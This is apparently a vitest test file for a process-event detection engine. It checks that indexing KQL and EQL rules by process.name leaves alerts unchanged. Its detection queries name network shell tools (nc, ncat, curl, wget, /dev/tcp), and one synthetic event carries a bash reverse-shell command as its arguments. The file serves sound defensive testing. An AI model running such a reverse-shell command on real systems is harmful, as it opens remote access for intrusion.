import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Alert, ProcessEvent } from '../../src/ecs/types.js';
import { DetectionEngine } from '../../src/engine/index.js';
import { loadRuleSet, type LoadedRule } from '../../src/rules/index.js';
import { openHistoryStore, type HistoryStore } from '../../src/store/index.js';
import { eqlToml } from '../helpers/eql-rule.js';
import { kibanaRule } from '../rules/fixtures.js';
import { execEvent, isoAfter, recordingLogger, tempDir } from './helpers.js';

/**
 * The engine skips rules whose required process.name values an event does not hold. Skipping must never
 * change an answer: every rule still alerts exactly when its query matches.
 */

const T0 = '2026-11-30T10:00:00.000Z';
const stores: HistoryStore[] = [];
afterEach(async () => {
  for (const store of stores.splice(0)) await store.close();
});

const QUERIES: Record<string, string> = {
  'kql-names': 'event.category:process and process.name:(curl or wget)',
  'kql-pattern': 'process.name:py* and process.args:-c',
  'eql-exact': 'process where event.type == "start" and process.name in ("bash", "sh")',
  'eql-folded': 'process where process.name : ("CURL", "Wget") and process.args : "-O"',
  'eql-or': 'process where (process.name == "nc" or process.name == "ncat")',
  'eql-no-name': 'process where process.args : "*/dev/tcp/*"',
  'eql-number': 'process where process.name == "1234"',
  'eql-parent': 'process where process.parent.name : "SSHD" and process.name : "*sh"',
};

async function rules(): Promise<LoadedRule[]> {
  const dir = tempDir();
  const ndjson = Object.entries(QUERIES)
    .filter(([id]) => id.startsWith('kql'))
    .map(([id, query]) => JSON.stringify(kibanaRule({ rule_id: id, name: id, type: 'query', query, max_signals: 10_000 })));
  writeFileSync(join(dir, 'kql.ndjson'), ndjson.join('\n'));
  for (const [id, query] of Object.entries(QUERIES).filter(([id]) => id.startsWith('eql'))) {
    writeFileSync(join(dir, `${id}.toml`), eqlToml({ id, name: id }, query, { max_signals: 'max_signals = 10000' }));
  }
  writeFileSync(
    join(dir, 'seq.toml'),
    eqlToml(
      { id: 'seq-until', name: 'seq-until' },
      'sequence by process.parent.entity_id with maxspan=1m [process where process.name == "curl"] [process where process.name == "bash"] until [process where process.name == "kill"]',
      { max_signals: 'max_signals = 10000' },
    ),
  );
  return (await loadRuleSet([dir], { skipUnsupported: false })).rules;
}

async function run(loaded: readonly LoadedRule[], events: readonly ProcessEvent[]): Promise<Alert[]> {
  const { logger } = recordingLogger();
  const store = await openHistoryStore({ stateDir: join(tempDir(), 'state'), maxTuplesPerRule: 1000, logger });
  stores.push(store);
  const alerts: Alert[] = [];
  const engine = new DetectionEngine(loaded, { store, logger, emit: (alert) => alerts.push(alert) });
  for (const event of events) engine.evaluate(event, Date.parse(event['@timestamp']));
  await engine.drain();
  return alerts;
}

function exec(ms: number, name: unknown, args: string[], parent = 'p'): ProcessEvent {
  const event = execEvent(isoAfter(T0, ms), { event: { id: `e${ms}` }, process: { args, parent: { entity_id: parent } } });
  (event.process as unknown as Record<string, unknown>)['name'] = name;
  return event;
}

describe('the process.name rule index', () => {
  it('knows which rules name their programs', async () => {
    const byId = new Map((await rules()).map((rule) => [rule.ruleId, rule.indexTerms]));
    expect(byId.get('kql-names')).toEqual({ field: 'process.name', values: ['curl', 'wget'], caseInsensitive: false });
    // no plain process.name, but a plain argument: indexed by process.args
    expect(byId.get('kql-pattern')).toEqual({ field: 'process.args', values: ['-c'], caseInsensitive: false });
    expect(byId.get('eql-folded')).toEqual({ field: 'process.name', values: ['CURL', 'Wget'], caseInsensitive: true });
    expect(byId.get('eql-or')).toEqual({ field: 'process.name', values: ['nc', 'ncat'], caseInsensitive: false });
    expect(byId.get('eql-parent')).toEqual({ field: 'process.parent.name', values: ['SSHD'], caseInsensitive: true });
    expect(byId.get('eql-no-name')).toBeUndefined();
    // every filter of a sequence counts, until included
    expect(byId.get('seq-until')).toEqual({ field: 'process.name', values: ['curl', 'bash', 'kill'], caseInsensitive: false });
  });

  it('alerts exactly as the queries match, event by event', async () => {
    const events = [
      exec(0, 'curl', ['curl', '-O', 'http://x']),
      exec(1, 'CURL', ['CURL', '-O']),
      exec(2, 'python3', ['python3', '-c', 'x']),
      exec(3, 'bash', ['bash', '-i', '>&', '/dev/tcp/10.0.0.1/4444']),
      exec(4, 'ncat', ['ncat']),
      exec(5, 1234, ['1234']),
      exec(6, 'curl', ['curl'], 'q'),
      exec(7, 'kill', ['kill'], 'q'),
      exec(8, 'bash', ['bash'], 'q'),
      exec(9, ['bash', 'wget'], ['x']),
      { ...exec(10, 'zsh', ['zsh']), process: { ...exec(10, 'zsh', ['zsh']).process, parent: { ...exec(10, 'zsh', ['zsh']).process.parent!, name: 'sshd' } } },
    ];
    const loaded = await rules();
    const alerts = await run(loaded, events);
    const got = alerts.map((alert) => `${alert.rule.id}@${alert.event.id ?? ''}:${String(alert.process.name)}`).map((text) => text.replace(/@[^:]*/, ''));
    // the expectation, from each query on its own (no index involved)
    const expected: string[] = [];
    for (const event of events) {
      for (const rule of loaded) {
        if (rule.compiled.kind === 'event' && rule.compiled.matches(event)) expected.push(`${rule.ruleId}:${String(event.process.name)}`);
      }
      if (event.event.id === 'e3') expected.push('seq-until:bash');
    }
    expect(got).toEqual(expected);
    expect(got).toContain('eql-folded:CURL');
    expect(got).toContain('eql-number:1234');
    expect(got).toContain('eql-parent:zsh');
    expect(got.filter((alert) => alert.startsWith('seq-until'))).toEqual(['seq-until:bash']);
  });

  it('lets every indexed rule see an event whose process.name is not a string (a replayed document)', async () => {
    const loaded = await rules();
    // "1234" as a number: the keyword field compares it by its value, which the index cannot mirror
    const alerts = await run(loaded, [exec(0, 1234, ['x']), exec(1, 1.0, ['y'])]);
    expect(alerts.map((alert) => alert.rule.id)).toEqual(['eql-number']);
  });

  it('gives the same alerts as evaluating every rule, over recorded events', async () => {
    const recorded = readFileSync(new URL('../../bench/engine-events.ndjson', import.meta.url), 'utf8')
      .split('\n')
      .filter((line) => line.trim() !== '')
      .map((line) => JSON.parse(line) as ProcessEvent);
    const loaded = await rules();
    const alerts = await run(loaded, recorded);
    const expected = recorded.flatMap((event) => loaded.filter((rule) => rule.compiled.kind === 'event' && rule.compiled.matches(event)).map((rule) => rule.ruleId));
    expect(alerts.map((alert) => alert.rule.id).filter((id) => id !== 'seq-until')).toEqual(expected);
  });
});
